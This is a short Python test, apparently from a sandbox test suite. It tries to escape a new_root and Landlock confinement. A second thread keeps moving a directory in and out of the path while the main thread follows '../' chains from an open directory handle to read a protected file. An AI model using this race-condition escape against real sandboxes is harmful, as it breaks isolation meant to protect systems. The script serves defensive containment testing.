# what: opens "..", while a directory is moved upwards by a second thread, to step over the root
# layers: new_root, landlock
import os
import tempfile
import threading
import time

base = tempfile.gettempdir()
os.makedirs(base + "/a/b/c/d", exist_ok=True)
os.makedirs(base + "/out", exist_ok=True)
stop = time.monotonic() + 0.6


def move():
    while time.monotonic() < stop:
        os.rename(base + "/a/b/c", base + "/out/c")
        os.rename(base + "/out/c", base + "/a/b/c")


mover = threading.Thread(target=move)
mover.start()
seen = set()
while time.monotonic() < stop:
    try:
        at = os.open(base + "/a/b/c/d", os.O_PATH | os.O_DIRECTORY)
    except OSError:
        continue
    for up in range(2, 14):
        try:
            fd = os.open("../" * up + SECRET_FILE.lstrip("/"), os.O_RDONLY, dir_fd=at)
        except OSError:
            continue
        seen.add(os.read(fd, 80))
        os.close(fd)
    os.close(at)
mover.join()
if seen:
    print("ESCAPED read", seen)
print("contained")
